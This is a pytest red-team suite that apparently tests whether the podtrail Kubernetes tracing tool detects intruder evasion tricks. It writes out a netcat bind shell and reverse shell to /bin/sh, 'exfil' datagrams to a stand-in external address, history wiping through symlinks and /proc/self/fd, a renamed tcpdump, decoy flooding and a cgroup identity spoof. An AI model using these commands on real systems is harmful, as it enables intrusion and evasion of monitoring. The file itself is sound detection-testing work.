"""The red-team suite in the real cluster (issue 18): what an intruder does to hide, done through
a real `kubectl exec` (as alice, through the real API server and its audit webhook) into a real
pod, seen by podtrail's own DaemonSet, and read back from the real Jaeger behind the real
collector. Each trick's trace must hold the trick and alice's identity:

  - a datagram sent with sendto(2) to an address in an external range (TEST-NET-3, put on the
    pod's own loopback so nothing leaves the machine);
  - a bind shell (busybox `nc -l -e /bin/sh`) accepting a connection from the node, and the
    command run through it;
  - a renamed tcpdump (`cp /usr/bin/tcpdump /tmp/x; /tmp/x ...`: the node's tcpdump, mounted
    read-only with the node's /usr, which also brings python3 and a dynamic loader);
  - a history wipe through a symlink and through /proc/self/fd/N;
  - the payload (a binary the session had not run, and a connect) after 10 000 decoy commands;
  - a privileged container moving into a cgroup it made below its own, named after another pod's
    container id, then running tcpdump (the span names the container it runs in).

The container suite holds the same tricks against `podtrail run` on plain containers
(tests/e2e_ways_out.rs, e2e_evasion.rs, e2e_file_roads.rs); this one proves them through the
cluster's path: DaemonSet, pod index, audit webhook, receiver stream, collector, Jaeger.

PODTRAIL_REDTEAM_BROKEN=1 runs every test with its trick taken out of the input (a connected
send instead of sendto, a client instead of a listener, a copy of busybox instead of tcpdump,
the history's neighbour instead of the history, no payload after the decoys): each test must
then fail, which shows it checks what it says (BENCHMARKS.md has no part in this; the run is
recorded in the commit that added the suite).
"""
import os
import socket
import subprocess
import time

import pytest

from conftest import BUSYBOX, NAMESPACE, eventually, parse_ts, pod
from test_exec import session_root, wait_trace

POD = "redteam"
USER = "alice@example.com"
EXTERNAL = "203.0.113.9"
HISTORY = "/root/.ash_history"
O_TRUNC = 0o1000
BROKEN = os.environ.get("PODTRAIL_REDTEAM_BROKEN") == "1"


@pytest.fixture(scope="module")
def redteam(cluster):
    """A busybox pod with the node's /usr, /lib and /lib64 mounted read-only (tcpdump, python3,
    id, and their loader and libraries: as test_node.py's sniffer), and the external address on
    its loopback (NET_ADMIN only for that)."""
    init = f"ip addr add {EXTERNAL}/32 dev lo && exec sleep 3600"
    cluster.apply({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": POD, "namespace": NAMESPACE, "labels": {"app": POD}},
        "spec": {
            "terminationGracePeriodSeconds": 0,
            "containers": [{
                "name": "main", "image": BUSYBOX, "imagePullPolicy": "Never",
                "command": ["sh", "-c", init],
                "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}},
                "volumeMounts": [{"name": n, "mountPath": f"/{n}", "readOnly": True} for n in ("usr", "lib", "lib64")],
            }],
            "volumes": [{"name": n, "hostPath": {"path": f"/{n}"}} for n in ("usr", "lib", "lib64")],
        },
    })
    cluster.wait_ready(POD)
    ip = cluster.kubectl("-n", NAMESPACE, "get", "pod", POD, "-o", "jsonpath={.status.podIP}").stdout.strip()
    assert ip, "the redteam pod has no IP"
    # the pod works as the tricks need: python3 through the mounted /usr, the address on lo
    p = cluster.kubectl("-n", NAMESPACE, "exec", POD, "--", "/usr/bin/python3", "-c", "print('ok')")
    assert p.stdout.strip() == "ok", p.stderr
    p = cluster.kubectl("-n", NAMESPACE, "exec", POD, "--", "ip", "addr", "show", "dev", "lo")
    assert EXTERNAL in p.stdout, p.stdout
    return {"ip": ip}


def exec_as_alice(cluster, *cmd, timeout=300):
    """`kubectl exec` as alice into the redteam pod; (completed process, the request's audit id)."""
    t0 = time.time()
    p = cluster.kubectl("-n", NAMESPACE, "exec", POD, "--", *cmd, user="alice", timeout=timeout)
    return p, the_audit_id(cluster, t0)


def alice_execs(cluster, t0):
    """Audit ids of alice's exec requests on the redteam pod received since t0 (epoch s)."""
    ids = {}
    for e in cluster.audit_events():
        ref = e.get("objectRef") or {}
        if (ref.get("name") == POD and ref.get("subresource") == "exec"
                and (e.get("user") or {}).get("username") == USER
                and parse_ts(e.get("requestReceivedTimestamp")) >= t0):
            ids.setdefault(e["auditID"], parse_ts(e.get("requestReceivedTimestamp")))
    return sorted(ids, key=ids.get)


def the_audit_id(cluster, t0):
    ids = eventually("the exec request in the audit log", lambda: alice_execs(cluster, t0), timeout=30)
    assert len(ids) == 1, f"expected one exec request by {USER} on {POD} since the test began, got {ids}"
    return ids[0]


def as_alice(trace):
    """The trace is alice's: its root says who asked, from where, with which audit id, and the
    spans the checks below look at repeat her name."""
    root = session_root(trace)
    assert root.name == "kubectl exec", trace.tree()
    assert root.get("user.name") == USER, root.attrs
    assert root.get("podtrail.attribution.source") == "audit_webhook", root.attrs
    assert root.get("k8s.namespace.name") == NAMESPACE and root.get("k8s.pod.name") == POD, root.attrs
    return root


def named(trace, name, **attrs):
    return [s for s in trace.named(name) if all(str(s.get(k.replace("__", "."))) == str(v) for k, v in attrs.items())]


def test_sendto_an_external_address(cluster, redteam):
    # three datagrams to one external address from an unconnected socket: no connect(2) at all
    send = (f"s.connect(('{EXTERNAL}', 5353)); [s.send(b'exfil') for _ in range(3)]" if BROKEN
            else f"[s.sendto(b'exfil', ('{EXTERNAL}', 5353)) for _ in range(3)]")
    # a socket bound at the destination takes the datagrams (no ICMP refusal for a connected
    # sender in the broken run)
    code = (f"import socket; r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(('{EXTERNAL}', 5353)); "
            f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); {send}")
    _, audit_id = exec_as_alice(cluster, "/usr/bin/python3", "-c", code)
    t = wait_trace(cluster, audit_id, lambda t: named(t, "sendto") and named(t, "python3"),
                   "with python3's sendto span", timeout=120)
    as_alice(t)
    sends = named(t, "sendto", server__address=EXTERNAL)
    assert len(sends) == 1, f"three datagrams to one destination fold into one span:\n{t.tree()}"
    s = sends[0]
    assert s.kind == "client", s.attrs
    assert str(s.get("server.port")) == "5353", s.attrs
    assert s.get("podtrail.network.operation") == "sendto", s.attrs
    assert s.get("network.transport") == "udp", s.attrs
    assert s.get("podtrail.network.destination.scope") == "external", s.attrs
    assert str(s.get("podtrail.folded.count")) == "3", s.attrs
    assert s.get("user.name") == USER, s.attrs
    assert t.parent(s).name == "python3", t.tree()


def test_bind_shell_accepting_a_connection(cluster, redteam):
    port = 4444
    t0 = time.time()
    # the bind shell: a listener that runs a shell for whoever connects (broken: nc connects out
    # to a listener of the test's own, so nothing in the pod listens or accepts)
    if BROKEN:
        srv = socket.socket()
        srv.bind(("0.0.0.0", 0))
        srv.listen(1)
        gw = cluster.env["KUBE_GATEWAY_IP"]
        args = ["nc", gw, str(srv.getsockname()[1]), "-e", "/bin/sh"]
    else:
        args = ["nc", "-l", "-p", str(port), "-e", "/bin/sh"]
    kc = cluster.env["KUBECONFIG_ALICE"]
    shell = subprocess.Popen([cluster.kubectl_bin, "--kubeconfig", kc, "-n", NAMESPACE, "exec", POD, "--", *args],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        if BROKEN:
            srv.settimeout(30)
            conn, _ = srv.accept()
            client_port = None
        else:
            # from the node, as an attacker outside the pod would come in
            deadline = time.time() + 30
            while True:
                try:
                    conn = socket.create_connection((redteam["ip"], port), timeout=5)
                    break
                except OSError as e:
                    assert time.time() < deadline, f"the bind shell never listened: {e}"
                    time.sleep(0.3)
            client_port = conn.getsockname()[1]
        conn.settimeout(15)
        # by path: busybox sh runs a bare applet name in a fork without exec
        conn.sendall(b"/bin/id; exit\n")
        reply = b""
        while True:
            chunk = conn.recv(4096)
            if not chunk:
                break
            reply += chunk
        conn.close()
        assert b"uid=0" in reply, f"the shell ran id: {reply!r}"
        shell.wait(timeout=30)
    finally:
        if shell.poll() is None:
            shell.kill()
    audit_id = the_audit_id(cluster, t0)
    t = wait_trace(cluster, audit_id, lambda t: named(t, "id") and (named(t, "accept") or BROKEN),
                   "with the accepted connection and the id it ran", timeout=120)
    as_alice(t)
    listens = named(t, "listen", network__local__port=port)
    assert len(listens) == 1, f"the listen:\n{t.tree()}"
    assert listens[0].get("podtrail.network.operation") == "listen", listens[0].attrs
    accepts = named(t, "accept", network__peer__port=client_port)
    assert len(accepts) == 1, f"the accepted connection, named by its client port {client_port}:\n{t.tree()}"
    acc = accepts[0]
    assert acc.kind == "server", acc.attrs
    assert acc.get("podtrail.network.operation") == "accept", acc.attrs
    assert str(acc.get("server.port")) == str(port), acc.attrs
    assert acc.get("network.peer.address") == cluster.env["KUBE_GATEWAY_IP"], f"the node came in: {acc.attrs}"
    assert acc.get("user.name") == USER, acc.attrs
    nc = t.parent(acc)
    assert nc.name == "nc" and t.parent(listens[0]) is nc, t.tree()
    ids = named(t, "id")
    assert ids and ids[0].get("user.name") == USER, t.tree()
    assert any(a is nc for a in t.ancestors(ids[0])), f"the command through the shell is under nc:\n{t.tree()}"


def test_renamed_tcpdump(cluster, redteam):
    src = "/bin/busybox" if BROKEN else "/usr/bin/tcpdump"
    # tcpdump drops to a user this image lacks and may fail to capture: the exec is what counts
    _, audit_id = exec_as_alice(cluster, "sh", "-c",
                                f"cp {src} /tmp/x; timeout 2 /tmp/x -n -i lo -c 1 -Z root >/dev/null 2>&1; true")
    t = wait_trace(cluster, audit_id, lambda t: named(t, "x"), "with the renamed copy's span", timeout=120)
    as_alice(t)
    x = named(t, "x")
    assert len(x) == 1, t.tree()
    assert x[0].get("process.executable.name") == "x", x[0].attrs
    assert x[0].get("podtrail.process.identity") == "tcpdump", f"the copy is tcpdump by content: {x[0].attrs}"
    assert x[0].get("user.name") == USER, x[0].attrs
    # nothing else in the session is taken for tcpdump
    others = [s for s in t.spans if s.get("podtrail.process.identity") and s is not x[0]]
    assert not others, others


def history_opens(trace, given):
    """(span, event attributes) of each truncating open that reached the history by `given`."""
    out = []
    for s in trace.spans:
        for ev in s.events:
            a = ev["attrs"]
            if (ev["name"] == "file open" and a.get("file.path") == HISTORY
                    and a.get("podtrail.file.given_path") == given and int(a.get("podtrail.file.flags") or 0) & O_TRUNC):
                out.append((s, a))
    return out


@pytest.mark.parametrize("road,trick,given", [
    ("symlink", "ln -sf {target} /tmp/l; : > /tmp/l", "/tmp/l"),
    ("proc-self-fd", "exec 3>>{target}; : > /proc/self/fd/3", "/proc/self/fd/3"),
])
def test_history_wipe_by_another_road(cluster, redteam, road, trick, given):
    # the history is put back first (appending: not tampering); broken: the same road to its
    # neighbour, which is no history
    target = "/root/.ash_notes" if BROKEN else HISTORY
    _, audit_id = exec_as_alice(cluster, "sh", "-c", f"echo ls >> {HISTORY}; {trick.format(target=target)}")
    t = wait_trace(cluster, audit_id, lambda t: history_opens(t, given), f"with the history opened through {road}",
                   timeout=120)
    as_alice(t)
    (span, _), *_ = history_opens(t, given)
    assert span.get("user.name") == USER, span.attrs
    alerts = [(s, rule) for s, rule in t.alerts() if rule == "Shell history tampering"]
    # an alert event on the span, or an `alert` span under it
    assert any(s is span or t.parent(s) is span for s, _ in alerts), (
        f"the history rule fired on the span that opened it: {t.alerts()}")


def test_payload_after_ten_thousand_decoys(cluster, redteam):
    port = 9  # nothing listens in the pod: the connect is refused
    payload = "true" if BROKEN else f"/usr/bin/id -u; /bin/nc -w 1 127.0.0.1 {port} </dev/null; true"
    script = f"i=0; while [ $i -lt 10000 ]; do /bin/true decoy-$i; i=$((i+1)); done; {payload}"
    started = time.time()
    _, audit_id = exec_as_alice(cluster, "sh", "-c", script, timeout=900)
    print(f"10 000 decoys ran in {time.time() - started:.1f}s")
    # the root closes the trace; its counts say what the cap dropped
    t = wait_trace(cluster, audit_id, lambda t: int(session_root(t).get("podtrail.session.spans_capped") or 0) > 0,
                   "with its root and the cap's counts", timeout=300)
    root = as_alice(t)
    num = lambda k: int(root.get(k) or 0)  # noqa: E731
    assert num("podtrail.session.spans_capped") == (
        num("podtrail.session.spans_capped.process") + num("podtrail.session.spans_capped.network")), root.attrs
    decoys = len(t.named("true"))
    assert decoys < 10_000, f"the decoys were capped ({decoys} kept)"
    ids = named(t, "id")
    assert ids, "the payload's new binary is kept past the cap"
    assert ids[0].get("user.name") == USER, ids[0].attrs
    nc = named(t, "nc")
    assert nc, "the image that made a connect is kept past the cap"
    conns = [s for s in t.spans if s.name == "connect" and str(s.get("server.port")) == str(port)]
    assert conns and t.parent(conns[0]) is nc[0], f"the payload's connect, under nc: {[s.name for s in t.spans[-20:]]}"
    assert conns[0].get("podtrail.network.outcome") == "refused", conns[0].attrs
    assert conns[0].get("user.name") == USER, conns[0].attrs
    assert num("podtrail.session.spans_kept_over_cap") >= 3, root.attrs


def test_a_cgroup_named_after_another_container_lends_no_identity(cluster, pods):
    """A privileged container makes a cgroup below its own named after another pod's container
    id, moves into it, and runs tcpdump there: the tcpdump span must name the container it runs
    in, not the one its cgroup directory is named after (src/process/cgroup.rs: under a pod the
    container is the first id below the kubelet's pod component). Broken (the move left out),
    it fails at the check that the container moved; against the deepest-id rule it replaced, at
    the identity check (that run is in the commit that added this test)."""
    from test_node import jaeger_search, pod_container_id  # noqa: E402 (the node tests' helpers)

    other = eventually("the shell pod's container id", lambda: pod_container_id(cluster, "shell"), timeout=120)
    name = "nester"
    # the container's own cgroup2 directory: the hierarchy mounted here (this machine is hybrid,
    # v1 controllers at /sys/fs/cgroup, so the container has no cgroup2 mount of its own) plus
    # the path /proc tells (relative to the container's cgroup namespace, as the mount is).
    # `$$$$` is the shell's `$$`: Kubernetes turns `$$` in a command into `$`.
    script = (
        'set -e; mkdir -p /tmp/cg2; mount -t cgroup2 none /tmp/cg2; '
        'own=/tmp/cg2$(sed -n "s/^0:://p" /proc/self/cgroup); '
        'grep -qx $$$$ "$own/cgroup.procs" || { echo "not in $own: $(cat /proc/self/cgroup)"; exit 1; }; '
        f'd="${{own%/}}/{other}"; mkdir "$d"; [ "$BROKEN" = 1 ] || echo $$$$ > "$d/cgroup.procs"; '
        'echo "moved: $(grep ^0:: /proc/self/cgroup)"; '
        "exec /usr/bin/timeout 5 /usr/bin/tcpdump -i lo -c 1 -n")

    def spec(s):
        c = s["spec"]["containers"][0]
        c["securityContext"] = {"privileged": True}
        c["env"] = [{"name": "BROKEN", "value": "1" if BROKEN else "0"}]
        c["volumeMounts"] = [{"name": n, "mountPath": f"/{n}", "readOnly": True} for n in ("usr", "lib", "lib64")]
        s["spec"]["volumes"] = [{"name": n, "hostPath": {"path": f"/{n}"}} for n in ("usr", "lib", "lib64")]
        s["spec"]["restartPolicy"] = "Never"

    cluster.kubectl("-n", NAMESPACE, "delete", "pod", name, "--ignore-not-found", "--wait=true", timeout=120)
    cluster.apply(pod(name, ["sh", "-c", script], extra=spec))
    try:
        own = eventually("the nester pod's container id", lambda: pod_container_id(cluster, name), timeout=120)
        assert own != other
        def said():
            p = cluster.kubectl("-n", NAMESPACE, "logs", name, check=False)
            phase = cluster.kubectl("-n", NAMESPACE, "get", "pod", name, "-o", "jsonpath={.status.phase}",
                                    check=False).stdout.strip()
            out = p.stdout + p.stderr
            return out if "moved:" in out or phase in ("Succeeded", "Failed") else None

        logs = eventually("the nester's move", said, timeout=60)
        assert "moved:" in logs and other in logs, f"the container did not move into the cgroup named {other}: {logs}"

        found = {}

        def nested_tcpdump():
            spans = [s for t in jaeger_search(cluster, {"process.executable.name": "tcpdump"}) for s in t.spans
                     if s.name == "tcpdump" and (s.get("container.id") in (own, other)
                                                 or s.get("k8s.pod.name") == name)]
            found["spans"] = [(s.get("container.id"), s.get("k8s.pod.name"), s.get("k8s.pod.uid")) for s in spans]
            return spans or None

        spans = eventually("the nester's tcpdump span", nested_tcpdump, timeout=120, interval=1)
        lent = [(s.get("container.id"), s.get("k8s.pod.name")) for s in spans if s.get("container.id") != own]
        assert not lent, f"tcpdump in a cgroup named after {other} took that identity (own {own}): {lent}"
        assert all(s.get("k8s.pod.name") == name for s in spans), found
    finally:
        cluster.kubectl("-n", NAMESPACE, "delete", "pod", name, "--ignore-not-found", "--wait=false", check=False)
